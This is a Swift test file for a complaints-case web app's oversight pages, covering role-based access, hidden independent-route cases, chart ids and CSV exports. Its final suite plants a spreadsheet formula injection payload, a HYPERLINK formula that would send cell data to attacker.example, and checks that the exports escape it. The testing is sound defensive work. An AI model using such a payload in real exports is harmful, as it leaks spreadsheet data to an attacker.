import DocketCore
import DocketStore
import Foundation
import Testing

@testable import DocketWeb

@Suite("The oversight pages")
struct OversightPageTests {
    @Test func governance_sees_charts_and_downloads_every_table_as_csv() async throws {
        try await TestApp.run { t in
            try await t.installRulebook()
            let members = [try await t.user("A", [.member], number: "A1"), try await t.user("B", [.member], number: "A2")]
            for i in 0..<3 {
                _ = try await t.call(
                    .POST, "/api/v1/cases", as: members[0],
                    json: [
                        "respondent_membership_number": "A2", "relation": i == 0 ? "third_party" : "directly_affected",
                        "category": "bullying", "summary": "S\(i)",
                    ])
            }
            let governance = try await t.account("Gov", [.governance])
            let member = try await t.account("Mem", [.member], number: "A3")
            let web = WebClient(t)
            try await web.signIn(governance.person.email!, "long enough password")
            let page = try await web.get("/oversight")
            #expect(page.status == .ok)
            #expect(page.body.contains("<svg"))
            #expect(page.body.contains("Open cases by stage"))
            #expect(page.body.contains("two-proportion z-test"))
            let csv = try await web.get("/oversight/complainants.csv")
            #expect(csv.status == .ok)
            #expect(csv.headers.contentType?.subType == "csv")
            #expect(csv.body.contains("share filed by the top complainant,100%"))
            #expect(csv.body.contains("filed by third party,33%"))
            let other = WebClient(t)
            try await other.signIn(member.person.email!, "long enough password")
            #expect(try await other.get("/oversight").status == .notFound)
        }
    }
}

@Suite("Charts")
struct ChartIdTests {
    /// Every id on the oversight page is unique, so each chart's title and description belong
    /// to it (they were all "t" and "d", and every chart was announced as the first).
    @Test func every_id_on_the_oversight_page_is_its_own() async throws {
        try await TestApp.run { t in
            try await t.installRulebook()
            _ = try await t.simulate(cases: 30, seed: 3)
            let governance = try await t.account("Gov", [.governance])
            let web = WebClient(t)
            try await web.signIn(governance.person.email!, "long enough password")
            let page = try await web.get("/oversight")
            let ids = page.body.matches(of: /id="([^"]+)"/).map { String($0.output.1) }
            #expect(ids.count > 10)
            let repeated = Dictionary(grouping: ids, by: { $0 }).filter { $0.value.count > 1 }.keys.sorted()
            #expect(repeated.isEmpty, "\(repeated)")
            #expect(page.body.components(separatedBy: "<svg ").count - 1 >= 3)
            for labels in page.body.matches(of: /aria-labelledby="([^"]+)"/).map({ String($0.output.1) }) {
                for id in labels.split(separator: " ") { #expect(ids.contains(String(id)), "\(id) labels nothing") }
            }
        }
    }
}

@Suite("Idle cases on the oversight page")
struct IdleCasePageTests {
    @Test func an_idle_case_links_to_its_file_for_governance_but_not_for_auditors() async throws {
        try await TestApp.run { t in
            try await t.installRulebook()
            let a = try await t.user("A", [.member], number: "A1")
            _ = try await t.user("B", [.member], number: "A2")
            let r = try await t.call(
                .POST, "/api/v1/cases", as: a, json: ["respondent_membership_number": "A2", "relation": "witness", "category": "bullying", "summary": "S"])
            let id = try #require(r["id"] as? String).lowercased()
            t.clock.set(t.clock.now.addingTimeInterval(40 * 86_400))
            let governance = try await t.account("Gov", [.governance])
            let auditor = try await t.account("Aud", [.auditor])
            let g = WebClient(t)
            try await g.signIn(governance.person.email!, "long enough password")
            var page = try await g.get("/oversight")
            #expect(page.body.contains("Open cases with nothing done for more than 30 days"))
            #expect(page.body.contains("<a href=\"/cases/\(id)\">DK-2026-00001</a>"))
            let au = WebClient(t)
            try await au.signIn(auditor.person.email!, "long enough password")
            page = try await au.get("/oversight")
            #expect(page.body.contains("<td>DK-2026-00001</td>"))
            #expect(!page.body.contains("href=\"/cases/\(id)\""))
        }
    }
}

@Suite("Independent-route cases on the oversight pages")
struct IndependentRouteOversightTests {
    /// A complaint about an office-holder, suspended and then left idle, is named to the
    /// independent reviewers only: governance and auditors see it in the counts, never its row.
    @Test func governance_sees_nothing_of_an_independent_route_suspension() async throws {
        try await TestApp.run { t in
            try await t.installRulebook()
            let a = try await t.user("A", [.member], number: "A1")
            _ = try await t.user("Olga Official", [.member], official: true, number: "A9")
            let reviewer = try await t.account("Rev", [.reviewer])
            let governance = try await t.account("Gov", [.governance])
            let auditor = try await t.account("Aud", [.auditor])
            let r = try await t.call(
                .POST, "/api/v1/cases", as: a, json: ["respondent_membership_number": "A9", "relation": "witness", "category": "bullying", "summary": "S"])
            let id = try #require(r["id"] as? String)
            let reference = try #require(r["reference"] as? String)
            _ = try await t.call(.POST, "/api/v1/cases/\(id)/allocate-caseworker", as: reviewer)
            let s = try await t.call(
                .POST, "/api/v1/cases/\(id)/suspend", as: reviewer,
                json: [
                    "reasons": "Risk to staff while the complaint is looked into.", "scope": "All meetings", "review_date": "2026-03-20",
                ])
            #expect(s.status == .ok, "\(s.text)")
            t.clock.set(t.clock.now.addingTimeInterval(40 * 86_400))
            for (who, sees) in [(reviewer, true), (governance, false), (auditor, false)] {
                let web = WebClient(t)
                try await web.signIn(who.person.email!, "long enough password")
                for path in ["/oversight", "/oversight/suspensions.csv", "/oversight/idle.csv"] {
                    let page = try await web.get(path)
                    #expect(page.status == .ok)
                    #expect(page.body.contains(reference) == sees, "\(who.person.displayName) on \(path)")
                }
                if who.person.roles.contains(.governance) {
                    #expect(!(try await web.get("/governance")).body.contains(reference))
                }
            }
        }
    }
}

@Suite("From a figure to the cases behind it")
struct FigureDrillDownTests {
    @Test func a_caseworkers_figures_lead_to_their_cases_for_governance_and_reviewers_but_not_auditors() async throws {
        try await TestApp.run { t in
            try await t.installRulebook()
            let a = try await t.user("A", [.member], number: "A1")
            _ = try await t.user("B", [.member], number: "A2")
            _ = try await t.user("Official", [.member], official: true, number: "A9")
            let worker = try await t.user("Cas Worker", [.caseworker])
            let governance = try await t.account("Gov", [.governance])
            let reviewer = try await t.account("Rev", [.reviewer])
            let auditor = try await t.account("Aud", [.auditor])
            // Two complaints of one kind: one about a member (standard route), one about an office-holder.
            var refs: [String] = []
            for number in ["A2", "A9"] {
                let r = try await t.call(
                    .POST, "/api/v1/cases", as: a,
                    json: ["respondent_membership_number": number, "relation": "witness", "category": "bullying", "summary": "S"])
                refs.append(try #require(r["reference"] as? String))
                guard number == "A2" else { continue }
                // The member's case is allocated and dismissed at triage, so it counts in the figures.
                let text = try #require(r["id"] as? String)
                let id = try #require(UUID(uuidString: text))
                let store = try await t.app.docket.store(on: t.app.db)
                _ = try await store.execute(
                    .allocateCaseworker(pool: [Candidate(id: worker.id, openCases: 0)], seed: 1), on: id,
                    by: governance.person.actor, at: t.clock.now, on: t.app.db)
                let d = try await t.call(
                    .POST, "/api/v1/cases/\(id.uuidString)/dismiss", as: worker, json: ["reasons": "No clause of the rulebook is engaged."])
                #expect(d.status == .ok)
            }
            let g = WebClient(t)
            try await g.signIn(governance.person.email!, "long enough password")
            let page = try await g.get("/oversight")
            #expect(page.body.contains("/oversight/cases?by=caseworker&amp;group=\(worker.id.uuidString.lowercased())"))
            let range = try #require(page.body.range(of: #"href="/oversight/cases?by=category&amp;group=bullying"#))
            let href = String(page.body[range.lowerBound...].dropFirst(6).prefix { $0 != "\"" }).replacingOccurrences(of: "&amp;", with: "&")
            let behind = try await g.get(href)
            #expect(behind.status == .ok)
            #expect(behind.body.contains(refs[0]))
            #expect(!behind.body.contains(refs[1]))
            #expect(behind.body.contains("1 complaint about staff or office-holders in this group is shown only to the independent reviewers"))
            let csv = try await g.get(href + "&format=csv")
            #expect(csv.headers.contentType?.subType == "csv")
            #expect(csv.body.contains(refs[0]) && !csv.body.contains(refs[1]))

            let r = WebClient(t)
            try await r.signIn(reviewer.person.email!, "long enough password")
            let all = try await r.get(href)
            #expect(all.body.contains(refs[0]) && all.body.contains(refs[1]))

            let au = WebClient(t)
            try await au.signIn(auditor.person.email!, "long enough password")
            #expect(!(try await au.get("/oversight")).body.contains("/oversight/cases?"))
            #expect(try await au.get(href).status == .notFound)
        }
    }
}

@Suite("CSV downloads a spreadsheet opens safely")
struct CSVDownloadTests {
    /// Every cell of `csv` as RFC 4180 reads it.
    static func cells(_ csv: String) -> [String] {
        var cells: [String] = [], cell = "", quoted = false, i = csv.startIndex
        while i < csv.endIndex {
            let c = csv[i]
            if quoted {
                if c == "\"" {
                    let next = csv.index(after: i)
                    if next < csv.endIndex, csv[next] == "\"" { cell.append("\""); i = next } else { quoted = false }
                } else {
                    cell.append(c)
                }
            } else if c == "\"" {
                quoted = true
            } else if c == "," || c == "\r\n" || c == "\n" {
                cells.append(cell); cell = ""
            } else {
                cell.append(c)
            }
            i = csv.index(after: i)
        }
        return cells
    }

    static func formulaCells(_ csv: String) -> [String] {
        cells(csv).filter { cell in
            guard let f = cell.first, "=+-@\t\r".contains(f) else { return false }
            return cell.range(of: #"^[+-]?[0-9]+(\.[0-9]+)?%?$"#, options: .regularExpression) == nil
        }
    }

    @Test func a_caseworker_named_like_a_formula_is_text_in_every_oversight_download() async throws {
        try await TestApp.run { t in
            try await t.installRulebook()
            let a = try await t.user("A", [.member], number: "A1")
            _ = try await t.user("B", [.member], number: "A2")
            let formula = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Open\")"
            let caseworker = try await t.account(formula, [.caseworker])
            let governance = try await t.account("Gov", [.governance])
            let r = try await t.call(
                .POST, "/api/v1/cases", as: a,
                json: [
                    "respondent_membership_number": "A2", "relation": "witness", "category": "bullying", "summary": "S",
                ])
            let id = try #require(r["id"] as? String)
            #expect(try await t.call(.POST, "/api/v1/cases/\(id)/allocate-caseworker", as: governance).status == .ok)
            #expect(try await t.call(.POST, "/api/v1/cases/\(id)/dismiss", as: caseworker, json: ["reasons": "Outside the rules."]).status == .ok)
            let web = WebClient(t)
            try await web.signIn(governance.person.email!, "long enough password")
            var sawName = false
            for table in [
                "backlog", "backlog-kind", "idle", "timeliness-category", "timeliness-caseworker", "timeliness-panel",
                "outcomes-category", "outcomes-caseworker", "outcomes-panel", "sanctions", "complainants", "suspensions",
            ] {
                let csv = try await web.get("/oversight/\(table).csv")
                #expect(csv.status == .ok, "\(table)")
                #expect(Self.formulaCells(csv.body).isEmpty, "\(table): \(Self.formulaCells(csv.body))")
                sawName = sawName || Self.cells(csv.body).contains("'" + formula)
            }
            #expect(sawName, "the caseworker's name appears, as text, in a per-caseworker table")
            let report = try await WebClient(t).get("/reports/2026-Q1.csv")
            #expect(report.status == .ok)
            #expect(Self.formulaCells(report.body).isEmpty)
        }
    }
}
